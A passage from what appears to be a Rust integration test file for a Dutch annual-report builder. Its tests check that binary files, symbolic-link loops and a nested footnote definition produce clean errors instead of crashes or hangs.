    let png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01".to_vec();
    case.write("bijdragen/BZK/4.1.A.md", &png);
    case.write("paginas/inleiding.md", [0xde, 0xad, 0xbe, 0xef, 0x00, 0xff]);
    case.write("bijdragen/SZW/notulen.docx", b"PK\x03\x04\0\0binary".as_slice());
    case.write("afbeeldingen/ruis.bin", vec![0u8; 4096]);
    let out = case.check();
    out.no_panic()
        .code(1)
        .has("content/bijdragen/BZK/4.1.A.md:1:1: error: file is binary")
        .has("content/paginas/inleiding.md:1:1: error: file is")
        .has("content/bijdragen/SZW/notulen.docx:1:1: warning: file ignored");
    assert!(!out.stderr.contains("ruis.bin"), "files beside the content are not read:\n{}", out.stderr);
}

#[cfg(unix)]
#[test]
fn symbolic_link_loops_end_with_an_error_naming_the_link() {
    use std::os::unix::fs::symlink;
    let case = Case::new("valid");
    let c = case.content();
    symlink("4.1.A.md", c.join("bijdragen/BZK/4.2.C.md")).unwrap(); // a link to a file inside: read as that file
    symlink("zelf.md", c.join("paginas/zelf.md")).unwrap(); // to itself
    symlink("b.md", c.join("paginas/a.md")).unwrap(); // a ring of two
    symlink("a.md", c.join("paginas/b.md")).unwrap();
    symlink(&c, c.join("bijdragen/lus")).unwrap(); // a directory loop
    symlink("..", c.join("afbeeldingen/omhoog")).unwrap();
    symlink("/", c.join("hoofdstukken/wortel")).unwrap();
    let out = case.check();
    out.no_panic()
        .code(1)
        .has("content/paginas/zelf.md:1:1: error: symbolic link cannot be followed")
        .has("content/paginas/a.md:1:1: error: symbolic link cannot be followed")
        .has("content/paginas/b.md:1:1: error: symbolic link cannot be followed");
    assert!(!out.stderr.contains("lus") && !out.stderr.contains("omhoog"), "{}", out.stderr);
}

/// A footnote defined inside a footnote's list (`[^b]:1. [^a]:`, found by
/// comparing the two Markdown readers the PDF and the Word forms had) once
/// made the PDF's reader of the body loop for ever. `check` now refuses it
/// at its line, since the PDF and the form would read the inner note as
/// the outer one's text, and `build` ends with that error; a hang fails
/// this test instead of holding CI.
#[test]
fn a_footnote_defined_inside_a_note_is_an_error_not_a_hang() {
    use wait_timeout::ChildExt;
    let case = Case::new("valid");
    let file = "bijdragen/BZK/4.1.A.md";
    let text = case.read(file);
    let line = text.lines().count() + 2;
    case.write(file, format!("{text}\n[^b]:1. [^a]:\n"));
    case.check()
        .code(1)
        .mentions(&format!("4.1.A.md:{line}:"))
        .mentions("footnote [^a] is defined inside the text of footnote [^b]");
    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_jaarrapport"))
        .args(["build", "content", "--out", "out", "--format", "html,pdf"])
        .current_dir(case.root())
        .env("JAARRAPPORT_NO_PROVISION", "1")
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    match child.wait_timeout(std::time::Duration::from_secs(120)).unwrap() {
        Some(status) => assert_eq!(status.code(), Some(1), "build: {status}"),
        None => {
            let _ = child.kill();
            let _ = child.wait();
            panic!("the build did not end within two minutes");
        }
    }
}
